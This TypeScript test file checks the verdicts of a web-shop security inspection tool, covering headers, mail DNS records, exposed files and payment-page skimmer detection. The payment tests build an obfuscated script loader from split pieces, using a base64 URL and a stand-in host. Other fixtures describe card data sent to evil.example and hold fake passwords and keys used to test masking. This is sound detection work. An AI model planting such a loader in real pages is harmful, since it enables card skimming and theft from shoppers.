import { describe, expect, it } from 'vitest';
import { readData } from '#engines/data/read-data.ts';
import { maskSample } from '../collectors/collect-exposures.ts';
import type { Authorised, Inspection, PaymentPage } from '../inspection.ts';
import type { VisitorHost } from '../inventory/visitor-host.ts';
import { exposures, exposuresShape, markerPattern } from '../tables.ts';
import { allChecks } from './all-checks.ts';
import { exchange, goldenInspection, goldenMail, got, homePage } from './golden-inspection.ts';
import { judgeInspection } from './judge-inspection.ts';
import { codeOf } from './payment/code-of.ts';
import { goldenHost, goldenPayment, goldenScript } from './payment/golden-payment.ts';

const outcomeOf = (check: string, inspection: Inspection) => {
  const report = judgeInspection(inspection);
  const result = report.results.find((item) => item.check.id === check);
  return result ? [result.outcome, ...result.weaknesses.map((weakness) => weakness.severity)].join(' ') : 'none';
};
const home = (headers: Record<string, string | undefined>, change = {}) => goldenInspection({ home: got(homePage(headers, change)) });
const names = (change: object) => goldenInspection({ names: { ...goldenNames(), ...change } as NonNullable<Inspection['names']> });
const goldenNames = () => goldenInspection().names ?? never();
const never = () => {
  throw new Error('the golden inspection has names');
};

describe('the golden inspection', () => {
  it('has nothing to mend, and only the names, which nobody tried, are unknown', () => {
    const report = judgeInspection(goldenInspection());
    expect(report.results.filter((item) => ['fail', 'warn'].includes(item.outcome))).toEqual([]);
    expect(report.results.filter((item) => item.outcome === 'unknown').map((item) => item.check.id)).toEqual([
      'exposed-files',
      'exposed-files-deep',
      'admin-panels',
    ]);
  });

  it('of a shop that does not answer is unknown throughout, never fine', () => {
    const away = { kind: 'unknown', reason: 'no answer' } as const;
    const none = { kind: 'unknown', reason: 'no answer' } as const;
    const dark = goldenInspection({
      home: away,
      plain: away,
      tls: away,
      transport: away,
      ways: [],
      mail: { ...goldenMail(), mtaSts: none, tlsRpt: none, bimi: none, dkim: [], hostDmarc: none },
      pages: [],
      homeAgain: away,
      crossOrigin: [],
      insides: { scripts: [], pageSecrets: [], graphql: [], buckets: [], cut: 'no answer' },
      securityTxt: away,
      names: { domain: 'example.com', mx: none, txt: none, dmarc: none, caa: none },
      payment: away,
      libraries: { home: null, payment: null, looked: 0, missing: [], cut: 'no answer' },
    });
    expect(judgeInspection(dark).counts).toMatchObject({ pass: 0, fail: 0, warn: 0 });
  });
});

describe.each<[string, Inspection, string]>([
  ['hsts', home({ 'strict-transport-security': undefined }), 'fail medium'],
  ['hsts', home({ 'strict-transport-security': 'max-age=300' }), 'warn low'],
  ['csp', home({ 'content-security-policy': undefined }), 'fail medium'],
  ['csp', home({ 'content-security-policy': "script-src 'self' 'unsafe-inline' https:; object-src 'none'" }), 'warn low'],
  ['csp', home({ 'content-security-policy': undefined, 'content-security-policy-report-only': "default-src 'self'" }), 'warn low'],
  ['nosniff', home({ 'x-content-type-options': undefined }), 'warn low'],
  ['framing', home({ 'content-security-policy': undefined }), 'fail medium'],
  ['framing', home({ 'content-security-policy': undefined, 'x-frame-options': 'SAMEORIGIN' }), 'pass'],
  ['framing', home({ 'content-security-policy': 'frame-ancestors *', 'x-frame-options': 'DENY' }), 'fail medium'],
  ['referrer-policy', home({ 'referrer-policy': 'unsafe-url' }), 'warn low'],
  ['referrer-policy', home({ 'referrer-policy': undefined }), 'pass'],
  ['cookies', home({}, { cookies: ['PHPSESSID=x; path=/'] }), 'fail medium'],
  ['cookies', home({}, { cookies: ['csrf_token=x; Secure', 'theme=dark; Secure'] }), 'pass'],
  ['cookies', home({}, { cookies: ['theme=dark'] }), 'warn low'],
  ['version-disclosure', home({ server: 'Apache/2.4.57 (Debian)' }), 'warn low'],
  ['mixed-content', home({}, { body: '<script src="http://cdn.example/x.js"></script>' }), 'fail high'],
  ['mixed-content', home({}, { body: '<a href="http://other.example/">x</a><!-- <img src="http://a.example/i"> -->' }), 'pass'],
  ['mixed-content', home({}, { body: '<img src="http://cdn.example/x.png"><link rel="canonical" href="http://x.example">' }), 'warn low'],
  ['https-redirect', goldenInspection({ plain: got(exchange({ url: 'http://shop.example.com/' })) }), 'fail high'],
  ['https-redirect', goldenInspection({ plain: { kind: 'unknown', reason: 'the connection was refused' } }), 'pass'],
  ['tls-certificate', goldenInspection({ startedAt: '2026-04-20T00:00:00.000Z' }), 'fail medium'],
  ['tls-certificate', goldenInspection({ startedAt: '2026-05-02T00:00:00.000Z' }), 'fail critical'],
  ['mail-spf', names({ txt: { kind: 'none' } }), 'fail medium'],
  ['mail-spf', names({ txt: { kind: 'records', records: ['v=spf1 +all'] } }), 'fail high'],
  ['mail-spf', names({ txt: { kind: 'records', records: ['v=spf1 -all', 'v=spf1 mx -all'] } }), 'fail medium'],
  ['mail-spf', names({ txt: { kind: 'unknown', reason: 'no answer in time' } }), 'unknown'],
  ['mail-dmarc', names({ dmarc: { kind: 'none' } }), 'fail high'],
  ['mail-dmarc', names({ dmarc: { kind: 'records', records: ['v=DMARC1; p=none; sp=reject; rua=mailto:a@example.com'] } }), 'fail medium'],
  ['mail-mx', names({ mx: { kind: 'none' } }), 'warn info'],
  ['caa', names({ caa: { kind: 'none' } }), 'warn low'],
  ['mail-spf', goldenInspection({ names: null }), 'notApplicable'],
  ['security-txt', goldenInspection({ securityTxt: got(exchange({ status: 404 })) }), 'warn low'],
  [
    'security-txt',
    goldenInspection({ securityTxt: got(exchange({ body: 'Contact: mailto:x@y.example\nExpires: 2020-01-01T00:00:00Z' })) }),
    'warn low',
  ],
  ['security-txt', goldenInspection({ securityTxt: got(exchange({ status: 503 })) }), 'unknown'],
  ...['integrity', 'mixed-content'].map((check): [string, Inspection, string] => [
    check,
    goldenInspection({ home: got(homePage({}, { truncated: true })) }),
    'unknown',
  ]),
  ...['csp', 'framing', 'cookies', 'cross-origin', 'integrity'].map((check): [string, Inspection, string] => [
    check,
    goldenInspection({ home: got(homePage({}, { status: 403 })), pages: [] }),
    'unknown',
  ]),
])('%s', (check, inspection, expected) => {
  it(`says ${expected}`, () => expect(outcomeOf(check, inspection)).toBe(expected));
});

const pay = (change: Partial<PaymentPage>): Inspection => {
  const authorised = { scripts: [{ key: 'https://shop.example.com/shop.js', hash: 'a'.repeat(64) }], hosts: ['psp.example'] };
  return goldenInspection({ payment: got(goldenPayment({ scripts: [goldenScript()], ...change })), authorised });
};
const leak = {
  field: 'card',
  host: 'evil.example',
  where: 'body',
  encoding: 'base64',
  script: null,
  channel: 'image',
  recording: false,
} as const;
const psp = goldenHost('psp.example');
const said = (authorised: Partial<Authorised>, change: Partial<PaymentPage> = {}): Inspection => {
  const inspection = pay(change);
  return { ...inspection, authorised: { scripts: [], hosts: [], ...inspection.authorised, ...authorised } };
};
// Taken apart, so that nobody takes this file for what it describes.
const HIDING = [
  'var s=document.createElement("script");s.src=',
  'at',
  'ob("',
  Buffer.from('https://a.example/x.js').toString('base64'),
  '");document.head.append(s)',
].join('');
const told = (change: Partial<VisitorHost>): VisitorHost => ({
  ...{ host: 'evil.example', directives: ['connect-src'], sources: [], reports: 9, days: 1, hours: 1, agents: 1 },
  ...{ first: '2026-03-01T00:00:00Z', last: '2026-03-01T00:00:00Z', ...change },
});

describe.each<[string, Inspection, string]>([
  ['payment-scripts', pay({}), 'pass'],
  ['payment-scripts', pay({ scripts: [goldenScript({ hash: 'b'.repeat(64) })] }), 'warn low'],
  ['payment-scripts', pay({ scripts: [goldenScript(), goldenScript({ url: 'https://evil.example/x.js', party: 'third' })] }), 'fail high'],
  ['payment-scripts', pay({ partial: 'it took too long' }), 'unknown'],
  ['payment-scripts', { ...pay({}), authorised: null }, 'notApplicable'],
  ['payment-hosts', pay({ hosts: [{ host: 'psp.example', party: 'third', requests: 1, scripts: [], channels: ['image'] }] }), 'pass'],
  ['payment-hosts', pay({ hosts: [{ host: 'evil.example', party: 'third', requests: 1, scripts: [], channels: ['image'] }] }), 'fail high'],
  ['payment-skimmer', pay({}), 'pass'],
  ['payment-skimmer', pay({ leaks: [leak], partial: 'it took too long' }), 'fail critical'],
  ['payment-skimmer', pay({ leaks: [{ ...leak, host: 'psp.example' }] }), 'pass'],
  ['payment-skimmer', pay({ leaks: [{ ...leak, host: 'api.stripe.com' }] }), 'pass'],
  ['payment-skimmer', pay({ leaks: [{ ...leak, host: 'api.stripe.com.evil.example' }] }), 'fail critical'],
  ['payment-skimmer', pay({ leaks: [{ ...leak, recording: true }] }), 'pass'],
  ['payment-skimmer', pay({ typed: [] }), 'notApplicable'],
  ['payment-skimmer', pay({ typed: [], forms: [{ action: 'https://shop.example.com/pay', fields: ['x1'] }] }), 'unknown'],
  ['payment-skimmer', pay({ typed: [], partial: 'it took too long' }), 'unknown'],
  ['payment-scripts', said({ rejected: [{ kind: 'script', key: 'https://shop.example.com/shop.js', reason: 'no' }] }), 'fail high'],
  [
    'payment-scripts',
    said({ trusted: ['https://shop.example.com/shop.js'] }, { scripts: [goldenScript({ hash: 'b'.repeat(64) })] }),
    'pass',
  ],
  [
    'payment-scripts',
    said({ vendors: ['evil.example'] }, { scripts: [goldenScript(), goldenScript({ url: 'https://evil.example/x.js', party: 'third' })] }),
    'pass',
  ],
  ['payment-scripts', said({ expired: [{ kind: 'script', key: 'https://shop.example.com/shop.js', until: '2026-01-01' }] }), 'warn low'],
  ['payment-hosts', said({ rejected: [{ kind: 'host', key: 'psp.example', reason: 'no' }] }, { hosts: [psp] }), 'fail high'],
  ['payment-hosts', said({ hosts: [], vendors: ['psp.example'] }, { hosts: [psp] }), 'pass'],
  ['payment-headers', pay({}), 'notApplicable'],
  ['payment-headers', said({ headers: { 'x-frame-options': 'DENY' } }, { headers: { 'X-Frame-Options': 'DENY' } }), 'pass'],
  ['payment-headers', said({ headers: { 'x-frame-options': 'DENY' } }), 'fail medium'],
  ['payment-headers', said({ headers: { 'content-security-policy': "script-src 'self'" } }), 'fail high'],
  ['payment-headers', said({ headers: { 'referrer-policy': '' } }, { headers: { 'referrer-policy': 'no-referrer' } }), 'warn low'],
  ['payment-headers', said({ headers: { 'x-frame-options': 'DENY' } }, { status: 500 }), 'unknown'],
  ['payment-visitors', pay({}), 'notApplicable'],
  ['payment-visitors', { ...pay({}), visitors: got([]) }, 'unknown'],
  [
    'payment-visitors',
    { ...pay({ headers: { 'content-security-policy-report-only': 'report-uri https://bell.example/in/reports/x' } }), visitors: got([]) },
    'pass',
  ],
  ['payment-visitors', { ...pay({}), visitors: got([told({})]) }, 'unknown'],
  ['payment-visitors', { ...pay({}), visitors: got([told({ hours: 3 })]) }, 'fail medium'],
  ['payment-visitors', { ...pay({}), visitors: got([told({ days: 2, hours: 5, agents: 2 })]) }, 'fail high'],
  ['payment-visitors', { ...pay({}), visitors: got([told({ host: 'psp.example', hours: 3 })]) }, 'pass'],
  ['payment-visitors', { ...pay({}), visitors: { kind: 'unknown', reason: 'no telemetry' } }, 'unknown'],
  ['payment-code', pay({}), 'pass'],
  [
    'payment-code',
    pay({ scripts: [goldenScript({ url: 'https://evil.example/x.js', party: 'third', code: codeOf(HIDING) })] }),
    'fail high',
  ],
  [
    'payment-code',
    said(
      { scripts: [{ key: 'https://evil.example/x.js', hash: 'a'.repeat(64) }] },
      { scripts: [goldenScript({ url: 'https://evil.example/x.js', party: 'third', code: codeOf(HIDING) })] },
    ),
    'pass',
  ],
  ['payment-leak', pay({}), 'pass'],
  ['payment-leak', pay({ leaks: [leak] }), 'pass'],
  ['payment-leak', pay({ leaks: [{ ...leak, recording: true }] }), 'fail high'],
  ['payment-leak', pay({ leaks: [{ ...leak, field: 'email' }] }), 'fail medium'],
  ['payment-leak', pay({ leaks: [{ ...leak, field: 'email', encoding: 'SHA-256' }] }), 'warn low'],
  ['payment-leak', pay({ typed: [], forms: [{ action: 'https://shop.example.com/pay', fields: ['x1'] }] }), 'unknown'],
  ['payment-leak', { ...pay({}), depth: 'visitor' }, 'notApplicable'],
  ['payment-forms', pay({ forms: [{ action: 'http://shop.example.com/pay', fields: [] }] }), 'fail critical'],
])('%s', (check, inspection, expected) => {
  it(`says ${expected}`, () => expect(outcomeOf(check, inspection)).toBe(expected));
});

describe('exposed names', () => {
  const probe = (id: string, path: string, body: string, beside: string | null = null) => {
    const answer = got(exchange({ url: `https://shop.example.com${path}`, body }));
    const neighbour = beside === null ? got(exchange({ status: 404 })) : got(exchange({ body: beside }));
    return goldenInspection({ exposures: [{ id, answer, beside: neighbour }] });
  };
  it('count when the content proves them', () =>
    expect(outcomeOf('exposed-files', probe('env', '/.env', 'DB_PASSWORD=•••'))).toBe('fail critical'));
  it('do not count as HTML', () =>
    expect(outcomeOf('exposed-files', probe('env', '/.env', '<!doctype html>DB_PASSWORD=x'))).toBe('unknown'));
  it('do not count where a random name answers so too', () =>
    expect(outcomeOf('exposed-files', probe('env', '/.env', 'DB_PASSWORD=x', 'ANY_NAME=y'))).toBe('unknown'));

  it('have valid rows, different ids and paths, and markers that survive masking', () => {
    const table = readData('signatures/inspect-exposures.yaml', exposuresShape);
    expect(new Set(table.entries.map((entry) => entry.id)).size).toBe(table.entries.length);
    expect(new Set(table.entries.map((entry) => entry.path)).size).toBe(table.entries.length);
    for (const entry of exposures()) for (const marker of entry.marker) expect(() => markerPattern(marker)).not.toThrow();
    const samples: Record<string, string> = {
      env: 'APP_KEY=base64:abcdefghijklmnopqrstuvwxyz0123456789\nMAIL_USER=zofia@customer.example',
      'dump-sql': "INSERT INTO customers VALUES (1,'Zofia','zofia@customer.example','4929123456781235');",
      'server-key': `-----BEGIN PRIVATE KEY-----\n${'MIIE'.repeat(16)}\n-----END PRIVATE KEY-----`,
      'customers-csv': 'id,email,name\n1,zofia@customer.example,Zofia Nowak-Kowalska-Wisniewska',
      'wp-config-bak': "define('DB_PASSWORD', 'hunter2-very-secret');",
    };
    for (const [id, sample] of Object.entries(samples)) {
      const entry = exposures().find((row) => row.id === id);
      const masked = entry ? maskSample(entry, sample) : '';
      if (id !== 'wp-config-bak')
        expect(
          entry?.marker.some((marker) => markerPattern(marker).test(masked)),
          id,
        ).toBe(true);
      expect(masked, id).not.toMatch(/zofia@|4929123456781235|hunter2|MIIEMIIE|abcdefghijkl/);
    }
  });
});

it('every check says what it is', () => {
  expect(new Set(allChecks.map((check) => check.meta.id)).size).toBe(allChecks.length);
  for (const { meta } of allChecks) {
    expect(meta.title.length).toBeGreaterThan(10);
    expect(meta.remedy.length).toBeGreaterThan(20);
  }
});
